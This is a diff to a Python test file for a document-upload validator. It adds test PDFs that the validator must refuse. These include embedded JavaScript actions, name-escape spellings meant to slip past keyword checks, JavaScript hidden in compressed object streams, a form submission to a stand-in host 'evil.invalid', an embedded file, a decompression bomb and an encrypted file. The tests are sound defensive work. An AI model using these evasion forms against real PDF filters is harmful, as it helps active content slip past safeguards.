@@ -42,6 +42,23 @@ def bomb(side: int = 30_000) -> bytes:
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
 
 
+def document(said: bytes, *, head: bytes = b"") -> bytes:
+    """A PDF whose first object is this."""
+    return PDF.replace(b"<<>>endobj", b"<<" + head + b">>" + said + b"endobj")
+
+
+def packed(said: bytes, *, kind: bytes = b"/Type/ObjStm/N 1/First 4", cut: int = 0) -> bytes:
+    """A PDF that holds this in a compressed stream."""
+    data = zlib.compress(said)
+    data = data[: len(data) - cut]
+    length = b"/Length %d" % len(data)
+    stream = b"stream\r\n" + data + b"\nendstream "
+    return document(stream, head=kind + b"/Filter/FlateDecode" + length)
+
+
+SCRIPT = b"1 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"
+
+
 def archive() -> bytes:
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as zipped:
@@ -92,11 +109,21 @@ def test_an_enormous_name_and_one_that_turns_letters_around_are_made_harmless(ho
         (PDF[:-7], "PAPER_DAMAGED"),
         (PDF + archive(), "PAPER_TWO_KINDS"),
         (picture() + archive(), "PAPER_TWO_KINDS"),
-        (PDF.replace(b"<<>>endobj", b"<</OpenAction<</S/JavaScript>>>>endobj"), "PAPER_ACTIVE"),
+        (document(b"", head=b"/OpenAction<</S/JavaScript>>"), "PAPER_ACTIVE"),
+        (document(b"", head=b"/OpenAction<</S/J#61va#53cript>>"), "PAPER_ACTIVE"),
+        (document(b"", head=b"/Names<</EmbeddedFiles<</Names[]>>>>"), "PAPER_ACTIVE"),
+        (document(b"", head=b"/A<</S/SubmitForm/F(https://evil.invalid)>>"), "PAPER_ACTIVE"),
+        (packed(SCRIPT), "PAPER_ACTIVE"),
+        (packed(SCRIPT, kind=b"/Type /Obj#53tm /N 1 /First 4"), "PAPER_ACTIVE"),
+        (packed(SCRIPT, cut=4), "PAPER_ACTIVE"),
+        (packed(b" " * (70 << 20)), "PAPER_DAMAGED"),
+        (document(b"", head=b"/Encrypt 9 0 R"), "PAPER_LOCKED"),
     ],
     ids=[
         "empty", "page", "program", "archive", "gif", "bomb", "cut picture", "cut pdf",
-        "pdf and archive", "picture and archive", "script",
+        "pdf and archive", "picture and archive", "script", "script by another spelling",
+        "a file inside", "a form that is sent", "packed script", "packed by another spelling",
+        "packed and cut", "too much inside", "locked",
     ],
 )  # fmt: skip
 def test_what_is_no_plain_document_is_refused_and_not_kept(
@@ -107,6 +134,13 @@ def test_what_is_no_plain_document_is_refused_and_not_kept(
         keep(home, data)
     assert caught.value.code == code
     assert sorted(home.papers.rglob("*")) == before
+
+
+def test_a_plain_document_may_hold_compressed_objects(home: Home) -> None:
+    data = packed(b"1 0 <</Type/Page/JSX 1/AAA 2>>")
+    assert keep(home, data).media_type == "application/pdf"
+    huge = packed(b"\0" * (70 << 20), kind=b"/Subtype/Image")
+    assert keep(home, huge).media_type == "application/pdf"
 
 
 def test_a_picture_that_is_a_page_or_a_pdf_as_well_is_refused(home: Home) -> None:
